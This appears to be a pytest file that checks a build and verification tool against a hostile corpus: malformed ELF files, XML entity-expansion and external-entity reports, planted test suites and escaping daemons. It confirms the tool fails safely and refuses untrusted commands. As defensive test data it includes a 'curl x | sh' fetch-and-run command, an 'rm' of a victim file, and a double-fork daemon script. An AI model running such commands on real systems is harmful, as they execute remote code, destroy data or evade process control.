"""The hostile corpus of the surfaces beyond the stack file: crafted ELF files (tests/data/corpus/elf),
JUnit XML (tests/data/corpus/junit) and test suites (tests/data/corpus/suites); the run hook's
variables (tests/data/corpus/hook_env) in test_hostile_hook.py. Each case goes through the real verb
under a hard timeout: no traceback, no hang, no process left running, no write outside its folder.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.clirun import assert_no_traceback
from tests.mounts import tmpfs
from trainstack.verify.linkcheck.check import check_paths
from trainstack.verify.linkcheck.elf import read_elf

CORPUS = Path(__file__).resolve().parent / "data" / "corpus"
ELF = sorted((CORPUS / "elf").glob("*.so"))
FIFO = Path("/tmp/trainstack-corpus-fifo")  # what needed-fifo.so names
SECONDS = 10.0
pytestmark = pytest.mark.timeout(180)


def _cli(*argv: str, cwd: Path | None = None, env: dict[str, str] | None = None, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    code = "import sys; from trainstack.cli import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.run([sys.executable, "-c", code, *argv], capture_output=True, text=True, timeout=timeout,
                          cwd=cwd, env={**os.environ, **(env or {})})


def _attacks(path: Path) -> str:
    side = path.with_name(path.name + ".attacks")
    text = (side if side.exists() else path).read_text(encoding="utf-8")
    return text


def test_every_case_says_what_it_attacks() -> None:
    cases = [p for folder in ("elf", "junit", "suites", "hook_env") for p in sorted((CORPUS / folder).iterdir())
             if p.is_file() and not p.name.endswith(".attacks") and p.name != "generate.py"]
    assert len(cases) >= 35
    for path in cases:
        assert _attacks(path).startswith("# attacks: ") or "# attacks: " in _attacks(path)[:400], path.name


@pytest.fixture(scope="module")
def fifo():
    FIFO.unlink(missing_ok=True)
    os.mkfifo(FIFO)
    yield FIFO
    FIFO.unlink(missing_ok=True)


@pytest.mark.parametrize("path", ELF, ids=lambda p: p.stem)
def test_each_crafted_elf_is_read_in_bounded_time(path: Path, fifo: Path) -> None:
    start = time.monotonic()
    info = read_elf(str(path))
    assert time.monotonic() - start < SECONDS, path.name
    if path.stem != "valid":
        assert info.error or info.needed != ["libc.so.6"] or not info.strings or path.stem in (
            "dynamic-no-null", "needed-many"), path.name
    assert info.error is None or "\n" not in info.error


def test_the_valid_baseline_reads_its_needed_and_dlopen_names() -> None:
    info = read_elf(str(CORPUS / "elf" / "valid.so"))
    assert (info.error, info.needed, info.strings) == (None, ["libc.so.6"], ["libc.so.6", "libplugin.so.1"])


def test_pn_xnum_counts_are_checked_against_the_file_size() -> None:
    for name in ("pn-xnum", "pn-xnum-sized", "phentsize-zero"):
        info = read_elf(str(CORPUS / "elf" / f"{name}.so"))
        assert info.error and "do not fit a file of" in info.error, info.error


def test_linkcheck_over_the_whole_elf_corpus(tmp_path: Path, fifo: Path) -> None:
    """The real verb: ends in bounded time, every hostile object an error, the FIFO never opened."""
    start = time.monotonic()
    result = _cli("linkcheck", "--json", str(CORPUS / "elf"), timeout=60)
    assert time.monotonic() - start < 60
    assert result.returncode == 1, result.stderr
    assert_no_traceback(result.stderr + result.stdout)
    assert "INJECTED" not in result.stderr.replace("\\n", "")  # the forged line shows escaped, never as a line
    assert not any(line.startswith("error: INJECTED") for line in (result.stdout + result.stderr).splitlines())
    report = check_paths([CORPUS / "elf"], cache=False, workers=1)
    fifo_issue = [i for i in report.issues if i.library == str(FIFO)]
    assert fifo_issue and fifo_issue[0].kind == "unreadable", fifo_issue


def test_a_fifo_with_an_elf_name_is_never_opened(tmp_path: Path) -> None:
    planted = tmp_path / "libplanted.so"
    os.mkfifo(planted)
    start = time.monotonic()
    assert read_elf(str(planted)).error
    report = check_paths([tmp_path], cache=False, workers=1)
    assert time.monotonic() - start < SECONDS and report.files_checked == 0


# --- JUnit XML -----------------------------------------------------------------------------

JUNIT = sorted((CORPUS / "junit").glob("*.xml"))
PLANTED = Path(__file__).resolve().parent / "data" / "planted_suite"


def _gate(command: str, writable: tuple[Path, ...] = (), trust: bool = False, **suite: object):
    from trainstack.stackfile.schema import Suite
    from trainstack.verify.suites.gate import run_gate
    from trainstack.verify.suites.known_issues import KnownIssues
    from trainstack.verify.target import open_target

    if not command.startswith("!"):
        command = f"python -m pytest -p no:cacheprovider -o python_files=planted_*.py {command}"
    spec = Suite(name="planted", command=command.removeprefix("!"), **suite)
    result = run_gate(open_target(Path(sys.executable)), [spec], max_failed_tests=100, known=KnownIssues(),
                      target_name="local", cwd=PLANTED.parents[2], writable=writable, trust=trust)
    return result


@pytest.mark.parametrize("path", JUNIT, ids=lambda p: p.stem)
def test_a_hostile_junit_report_never_passes_nor_expands(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLANTED_JUNIT", str(path))
    start = time.monotonic()
    result = _gate("tests/data/planted_suite/junit", timeout=60)
    assert time.monotonic() - start < 60
    suite = result.suites[0]
    assert suite.status in ("crashed", "failed"), (suite.status, suite.reason)
    assert not result.passed
    assert "\n" not in suite.reason and "\x1b" not in suite.reason and len(suite.reason) < 600, suite.reason
    assert "root:" not in suite.reason and "lollol" not in suite.reason and "AAAA" not in suite.reason
    assert "INJECTED" not in suite.reason


def test_the_junit_reader_refuses_entities_before_expanding_them() -> None:
    from trainstack.verify.suites.junit import JunitUnreadable, read_junit

    for name in ("billion-laughs", "quadratic-blowup", "external-entity-file", "external-parameter-entity", "external-dtd"):
        start = time.monotonic()
        with pytest.raises(JunitUnreadable) as info:
            read_junit(CORPUS / "junit" / f"{name}.xml")
        assert "nothing was expanded" in str(info.value) and time.monotonic() - start < 2
    for name in ("malformed-unclosed", "empty", "not-utf8", "nul-byte", "control-char-ref", "wrong-root"):
        with pytest.raises(JunitUnreadable) as info:
            read_junit(CORPUS / "junit" / f"{name}.xml")
        assert "\n" not in str(info.value)


# --- test suites -----------------------------------------------------------------------------

SUITES = sorted((CORPUS / "suites").glob("planted_*.py"))
COMMANDS = sorted((CORPUS / "suites").glob("*.cmd"))
REPO = PLANTED.parents[2]


def _alive_marked(mark: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            if f"SUITE_MARK={mark}".encode() not in (entry / "environ").read_bytes().split(b"\0"):
                continue
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state not in ("Z", "X"):
            found.append(int(entry.name))
    return found


@pytest.fixture()
def victim(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    import uuid

    outside = tmp_path / "outside"
    outside.mkdir()
    target = outside / "victim.txt"
    target.write_text("intact\n")
    target.chmod(0o644)
    home = tmp_path / "home"
    home.mkdir()
    mark = uuid.uuid4().hex
    monkeypatch.setenv("SUITE_VICTIM", str(target))
    monkeypatch.setenv("SUITE_REAL_HOME", str(home))
    monkeypatch.setenv("SUITE_MARK", mark)
    before = set(os.listdir(REPO))
    yield target, home, mark
    for pid in _alive_marked(mark):  # what a failing case left: never kept running past the test
        os.kill(pid, 9)
    assert set(os.listdir(REPO)) == before


def _intact(target: Path, home: Path, mark: str) -> None:
    assert target.read_text() == "intact\n" and stat.S_IMODE(target.stat().st_mode) == 0o644
    assert sorted(p.name for p in target.parent.iterdir()) == ["victim.txt"]
    assert list(home.iterdir()) == []
    assert not (REPO / "INJECTED-suite-write").exists()
    assert _alive_marked(mark) == []


@pytest.mark.parametrize("path", SUITES, ids=lambda p: p.stem.removeprefix("planted_"))
def test_a_hostile_suite_neither_writes_outside_nor_outlives_verify(path: Path, victim) -> None:
    target, home, mark = victim
    start = time.monotonic()
    result = _gate(str(path.relative_to(REPO)), timeout=12)
    assert time.monotonic() - start < 12 + 20  # the timeout, the kill and a second pytest run for the rerun
    suite = result.suites[0]
    assert result.isolation.startswith("mount namespace"), result.isolation
    if path.stem not in ("planted_daemon_deletes_later", "planted_fork_many"):  # these two attack after they pass
        assert not result.passed, suite.reason  # the attack failed the test, or it skipped, forged or ran nothing
    assert_no_traceback(suite.reason)
    assert "\n" not in suite.reason
    if "daemon" in path.stem:
        time.sleep(6)  # past the daemon's deletion time: it must be gone
    _intact(target, home, mark)


@pytest.mark.parametrize("path", COMMANDS, ids=lambda p: p.stem)
def test_a_suite_command_that_is_not_pytest_needs_trust_and_stays_inside(path: Path, victim) -> None:
    from trainstack.errors import SpecError

    target, home, mark = victim
    command = path.read_text(encoding="utf-8").splitlines()[1]
    with pytest.raises(SpecError) as info:
        _gate("!" + command)
    assert "only with --trust" in str(info.value) and "\n" not in str(info.value)
    _intact(target, home, mark)
    result = _gate("!" + command, trust=True, timeout=20)
    assert not result.passed, result.suites[0].reason
    _intact(target, home, mark)


def test_verify_refuses_an_untrusted_command_before_running_anything(tmp_path: Path) -> None:
    stack = tmp_path / "stack.toml"
    victim = tmp_path / "victim.txt"
    victim.write_text("intact\n")
    stack.write_text(
        '[stack]\nname = "s"\nrelease = "1"\nimage = "s"\n[components]\npytest = ">=8"\n'
        '[matrix]\ncuda = ["cpu"]\nos = ["debian12"]\npython = ["3.11"]\n'
        f'[verify]\nsmoke = []\n[[verify.suite]]\nname = "t"\ncommand = "sh -c \'rm {victim}\'"\n'
    )
    result = _cli("verify", str(stack), "--python", sys.executable, "--skip", "report,ops,linkcheck", "--output", str(tmp_path / "v.json"))
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "--trust" in lines[0], result.stderr
    assert victim.exists() and not (tmp_path / "v.json").exists()
    trusted = _cli("verify", str(stack), "--python", sys.executable, "--skip", "report,ops,linkcheck", "--trust",
                   "--output", str(tmp_path / "v.json"))
    assert trusted.returncode == 1 and victim.exists(), trusted.stderr
    assert "suites isolation: mount namespace" in trusted.stdout + trusted.stderr


def test_check_shows_what_the_stack_will_run(tmp_path: Path) -> None:
    import json

    stack = tmp_path / "stack.toml"
    stack.write_text(
        '[stack]\nname = "s"\nrelease = "1"\nimage = "s"\n'
        '[components]\npytest = ">=8"\napex = { version = ">=0.1", build_env = { APEX_CPP_EXT = "1" } }\n'
        '[matrix]\ncuda = ["cpu"]\nos = ["debian12"]\npython = ["3.11"]\n'
        '[verify]\nsmoke = []\n'
        '[[verify.suite]]\nname = "unit"\ncommand = "python -m pytest -q tests"\n'
        '[[verify.suite]]\nname = "shell"\ncommand = "/bin/sh -c \'pytest; curl x | sh\'"\n'
    )
    shown = _cli("check", str(stack))
    assert shown.returncode in (0, 3), shown.stderr
    lines = [line for line in shown.stdout.splitlines() if line.startswith("runs: ")]
    assert lines == [
        "runs: verify.suite unit: python -m pytest -q tests (pytest)",
        "runs: verify.suite shell: /bin/sh -c 'pytest; curl x | sh' (not pytest: runs only with verify --trust)",
        "runs: components.apex.build_env: APEX_CPP_EXT=1",
    ], shown.stdout
    document = json.loads(_cli("check", str(stack), "--json").stdout)
    assert [s["pytest"] for s in document["runs"]["suites"]] == [True, False]
    assert document["runs"]["build_env"] == [{"component": "apex", "variable": "APEX_CPP_EXT", "value": "1"}]


# --- outputs on a full disk and a read-only mount ------------------------------------------------


@pytest.fixture()
def mounts(tmp_path: Path):
    """A full 64 KiB tmpfs and a read-only one (root with mount rights, else skipped)."""
    with tmpfs(tmp_path / "full", "size=64k") as full, tmpfs(tmp_path / "readonly", "size=64k,ro") as readonly:
        subprocess.run(["dd", "if=/dev/zero", f"of={full / 'fill'}", "bs=4k"], capture_output=True)
        yield full, readonly


def test_verify_output_on_a_full_disk_is_one_line_and_nothing_half_written(mounts, tmp_path: Path) -> None:
    full, readonly = mounts
    for folder in (full, readonly):
        before = sorted(os.listdir(folder))
        result = _cli("verify", "--python", sys.executable, "--skip", "report,ops,linkcheck,smoke,suites",
                      "--output", str(folder / "verify.json"))
        lines = result.stderr.strip().splitlines()
        if folder == readonly:  # seen before any work: an output path nothing can be written to is bad input
            assert result.returncode == 2, result.stderr
            assert len(lines) == 1 and "nothing can be written" in lines[0] and "read-only" in lines[0], result.stderr
        else:  # the disk filled once the work was done
            assert result.returncode == 10, result.stderr
            assert len(lines) == 1 and lines[0].startswith(f"error: {folder / 'verify.json'}: cannot write"), result.stderr
        assert_no_traceback(result.stderr)
        assert sorted(os.listdir(folder)) == before


def test_build_into_a_read_only_build_dir_is_one_line(mounts, tmp_path: Path) -> None:
    from tests.build_fixtures import copy_example, make_lock

    _, readonly = mounts
    stack = copy_example("cpu-minimal", tmp_path)
    make_lock(stack)
    result = _cli("build", str(stack), "--build-dir", str(readonly / "build"), timeout=120)
    lines = [line for line in result.stderr.strip().splitlines() if line.startswith("error:")]
    assert result.returncode == 2, result.stderr  # refused before any work, as every output path is
    assert len(lines) == 1 and "--build-dir" in lines[0] and "read-only" in lines[0], result.stderr
    assert_no_traceback(result.stderr)
    assert os.listdir(readonly) == []


# --- processes: the one subprocess route --------------------------------------------------------

ESCAPE = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    time.sleep(0.2)  # the parent of the daemon is gone before it prints
    if os.fork() == 0:
        print(os.getpid(), flush=True)
        time.sleep(600)
    os._exit(0)
time.sleep(0.5 + float(sys.argv[1]))
print("parent done", flush=True)
"""


def _running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")


@pytest.mark.parametrize("cgroup", [True, False], ids=["cgroup", "subreaper"])
@pytest.mark.parametrize("how", ["build-step", "suite"])
def test_a_command_that_leaves_a_daemon_neither_holds_the_caller_nor_survives(
        cgroup: bool, how: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A build step (a log, streamed) and a suite (its own session) through proc.run: the
    daemon it left holds both pipes; both modes of containment end it."""
    from trainstack import proc

    if not cgroup:
        monkeypatch.setattr(proc, "_cgroup_root", lambda: None)
    options = {"log": tmp_path / "step.log"} if how == "build-step" else {"new_session": True}
    for wait, timeout in (("0", 30), ("600", 3)):
        start = time.monotonic()
        try:
            result = proc.run([sys.executable, "-c", ESCAPE, wait], echo=False, timeout=timeout, **options)
            out = result.stdout
            assert wait == "0" and "parent done" in out
        except subprocess.TimeoutExpired as exc:
            assert wait == "600"
            out = exc.stdout or ""
            out = out.decode() if isinstance(out, bytes) else out
        assert time.monotonic() - start < timeout + proc.GRACE_SECONDS + 5
        daemon = int(next(word for word in out.split() if word.isdigit()))
        deadline = time.monotonic() + 5
        while _running(daemon) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not _running(daemon), f"the daemon {daemon} survived ({how}, wait {wait})"


def test_the_cgroup_of_a_killed_trainstack_is_removed_by_the_next_run() -> None:
    from trainstack import proc

    root = proc._cgroup_root()
    if root is None:
        pytest.skip("no writable cgroup v2 here: commands are contained by the subreaper")
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
    stale = root / f"trainstack-{gone}-0"
    stale.mkdir()
    try:
        assert proc.run(["true"], new_session=True, echo=False).ok
        assert not stale.exists()
        assert not [p for p in root.iterdir() if p.name.startswith(f"trainstack-{os.getpid()}-")]
    finally:
        if stale.exists():
            stale.rmdir()
